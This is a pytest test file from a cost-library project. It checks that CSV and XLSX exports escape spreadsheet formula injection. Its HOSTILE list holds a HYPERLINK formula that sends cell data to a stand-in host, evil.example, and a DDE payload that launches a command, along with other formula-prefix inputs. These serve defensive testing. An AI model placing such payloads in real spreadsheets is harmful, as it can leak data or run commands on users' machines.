"""No text Jamii writes to CSV or XLSX becomes a live formula (OWASP CSV-injection rule)."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from costing.db.io_tables import export_library, read_library_tables
from costing.db.repository import CostLibrary
from costing.report.cell_safety import csv_cell, csv_value, xlsx_cell
from tests.costing.library_data import tiny_data

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",  # DDE
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_are_neutralised_and_read_back_unchanged(text):
    assert csv_cell(text) == "'" + text
    assert csv_value(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["-12.50", "+3", "1e5", "Trench", "", 42, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([xlsx_cell(t) for t in HOSTILE] + [xlsx_cell("bad\x01char")])
    wb.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert [c.data_type for c in row] == ["s"] * (len(HOSTILE) + 1)
    # XML turns a carriage return into a line feed; the text is otherwise exact.
    assert [c.value for c in row[:-1]] == [t.replace("\r", "\n") for t in HOSTILE]
    assert row[-1].value == "bad\ufffdchar"


@pytest.fixture
def hostile_library(tmp_path):
    data = tiny_data()
    data.tables["assembly"][0].values["description"] = HOSTILE[1]
    data.tables["assembly"][1].values["description"] = HOSTILE[0]
    data.tables["resource"][0].values["name"] = "@SUM(1+1)"
    lib = CostLibrary(tmp_path / "hostile.sqlite")
    lib.replace_all(data)
    yield lib
    lib.close()


def test_costdb_export_xlsx_writes_no_formula(hostile_library, tmp_path):
    """Was: live formulas, including a DDE payload, in the exported workbook."""
    out = tmp_path / "lib.xlsx"
    export_library(hostile_library, out)
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert HOSTILE[0] in texts and HOSTILE[1] in texts and "@SUM(1+1)" in texts


def test_costdb_export_csv_escapes_and_round_trips(hostile_library, tmp_path):
    """Was: 157 unescaped = + - @ cells in the exported CSV tables."""
    out = tmp_path / "tables"
    export_library(hostile_library, out)
    cells = [cell for f in out.glob("*.csv") for row in csv.reader(f.open(encoding="utf-8")) for cell in row]
    assert not [
        c
        for c in cells
        if c.startswith(("=", "@", "\t", "\r"))
        or (c.startswith(("+", "-")) and not c.lstrip("+-").replace(".", "").isdigit())
    ]
    back = read_library_tables(out)
    assert {a.get("description") for a in back.tables["assembly"]} == {HOSTILE[0], HOSTILE[1]}
